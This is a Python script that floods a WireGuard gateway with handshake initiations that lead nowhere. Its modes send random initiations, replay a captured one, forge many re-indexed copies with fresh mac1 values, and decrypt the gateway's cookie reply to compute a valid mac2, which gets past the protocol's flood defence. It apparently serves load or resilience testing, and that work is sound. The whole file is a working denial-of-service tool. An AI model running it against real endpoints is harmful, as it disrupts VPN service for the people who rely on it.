#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods an address with handshake initiations that lead to nothing.

  wg_flood.py KIND HOST PORT RATE SECONDS KEY [CAPTURE]

KIND     mac1     no initiation of anybody who knows KEY: the first mac is wrong
         unknown  the initiation in CAPTURE, each with an index of its own and the first mac made anew
         replay   the initiation in CAPTURE, as it is
         cookies  as unknown; once a cookie came the second mac is right, too
KEY      the public key of the gateway, in base64
CAPTURE  a pcap file (Ethernet) whose first frame ends in an initiation

Stops after SECONDS or by SIGTERM, and prints how many were sent, in how many seconds, and how many answers
came. All messages are made before the first is sent.
"""
import base64
import os
import signal
import socket
import struct
import sys
import time

from wg_noise import block, extended, label_key, mac, with_macs

INITIATION, MACS, COOKIE = 148, 32, 64
MESSAGES = 4096
TURN = 0.001  # seconds


def with_index(message, index, pub):
    """The index is no part of what the initiator's keys seal, so any number of messages comes of one."""
    return with_macs(message[:4] + struct.pack("<I", index) + message[8:INITIATION - MACS], pub)


def with_mac2(message, cookie):
    return message[:-16] + mac(cookie, message[:-16])


def captured(path):
    with open(path, "rb") as f:
        f.read(24)
        size = struct.unpack("<I", f.read(16)[8:12])[0]
        message = f.read(size)[-INITIATION:]
    if len(message) != INITIATION or message[:4] != b"\1\0\0\0":
        sys.exit(f"{path}: its first frame is no initiation")
    return message


def prepare(kind, pub, path):
    if kind == "mac1":
        return [b"\1\0\0\0" + os.urandom(INITIATION - 4) for _ in range(MESSAGES)]
    message = captured(path)
    if kind == "replay":
        return [message]
    return [with_index(message, i, pub) for i in range(MESSAGES)]


def cookie_of(reply, pub):
    """The cookie in message 3, to whichever of our messages; whether it is a right one will show."""
    key, nonce = extended(label_key(b"cookie--", pub), reply[8:32])
    return bytes(x ^ y for x, y in zip(reply[32:48], block(key, 1, nonce)))


# --- the flood ---

def answers(sock):
    """What came so far."""
    got = []
    try:
        while True:
            got.append(sock.recv(2048))
    except OSError:
        return got


def flood(sock, messages, rate, seconds, pub, wants_cookie):
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(1))
    sent, got, began = 0, 0, time.monotonic()
    while not ended and (passed := time.monotonic() - began) < seconds:
        # what a busy machine missed is not made up for at once
        for _ in range(min(int(passed * rate) - sent, int(rate * TURN * 20))):
            try:
                sock.send(messages[sent % len(messages)])
            except ConnectionRefusedError:  # a closed port
                pass
            sent += 1
        replies = answers(sock)
        got += len(replies)
        cookies = [r for r in replies if len(r) == COOKIE and r[:4] == b"\3\0\0\0"]
        if wants_cookie and cookies:
            cookie = cookie_of(cookies[0], pub)
            messages = [with_mac2(m, cookie) for m in messages]
            wants_cookie = False
        time.sleep(TURN)
    return sent, time.monotonic() - began, got


def main(kind, host, port, rate, seconds, key, path=None):
    pub = base64.b64decode(key)
    messages = prepare(kind, pub, path)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((host, int(port)))
        sock.setblocking(False)
        print("ready", flush=True)
        sent, took, got = flood(sock, messages, float(rate), float(seconds), pub, kind == "cookies")
    print(f"sent {sent} in {took:.2f} s, {got} answers")


main(*sys.argv[1:])
